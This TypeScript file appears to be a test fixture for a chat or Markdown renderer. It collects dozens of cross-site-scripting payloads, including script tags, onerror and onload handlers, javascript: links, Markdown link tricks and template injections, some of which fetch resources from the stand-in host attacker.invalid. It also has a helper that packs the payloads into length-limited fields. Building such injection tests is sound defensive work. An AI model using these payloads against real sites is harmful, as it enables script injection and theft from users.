/** Each would set `trialogueWasRun`, open a dialog or ask a foreign host if any of it were taken for more than words. */
const run = `globalThis.trialogueWasRun=1;alert(1)`;
const away = 'https://attacker.invalid';

/** Markup: shown letter for letter, since Markdown here knows no HTML. */
export const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${away}/x.js></SCRIPT>`,
  `<script/x>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${away}/pixel.png">`,
  `<img/src/onerror=${run}>`,
  `<image src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<math href="javascript:${run}">go</math>`,
  `<body onload="${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.trialogueWasRun=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<link rel=stylesheet href="${away}/x.css">`,
  `<style>@import '${away}/x.css';</style>`,
  `<style>*{background:url(${away}/css)}</style>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href="${away}/">`,
  `<form action="${away}"><button autofocus onfocus="${run}">go</button></form>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"></select>`,
  `<details open ontoggle="${run}"><summary>go</summary></details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<marquee onstart="${run}">go</marquee>`,
  `<div style="animation:x 1s" onanimationstart="${run}">go</div>`,
  `<div style="background:url(${away}/style)">go</div>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<a href="javascript:${run}">go</a>`,
  `<button popovertarget=x>go</button><div popover id=x onbeforetoggle="${run}">`,
];

/** Markdown and other languages that might be carried out somewhere. */
export const tricks: readonly string[] = [
  `<a href="jav&#x09;ascript:${run}">go</a>`,
  `[go](javascript:${run})`,
  `[go](JaVaScRiPt:${run})`,
  `[go](&#106;avascript:${run})`,
  `[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[go](vbscript:msgbox(1))`,
  `<javascript:${run}>`,
  `![picture](${away}/picture.png)`,
  `![picture](x"onerror="${run})`,
  `[go]: javascript:${run}\n\n[go]`,
  `[go](${away}/"onmouseover="${run})`,
  '```<img src=x onerror=alert(1)>\ncode\n```',
  `\`<script>${run}</script>\``,
  `| a |\n| - |\n| <img src=x onerror=alert(1)> |`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `$t(app:nav.rooms) {{room}} {{- name}}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
];

export const payloads: readonly string[] = [...markup, ...tricks];

/** As many payloads as a field takes, again and again until each was in one. */
export function portions(limit: number): string[] {
  return payloads.reduce<string[]>((filled, payload) => {
    const last = filled.at(-1);
    const longer = last === undefined ? payload : `${last}\n${payload}`;
    return longer.length <= limit && last !== undefined ? [...filled.slice(0, -1), longer] : [...filled, payload];
  }, []);
}
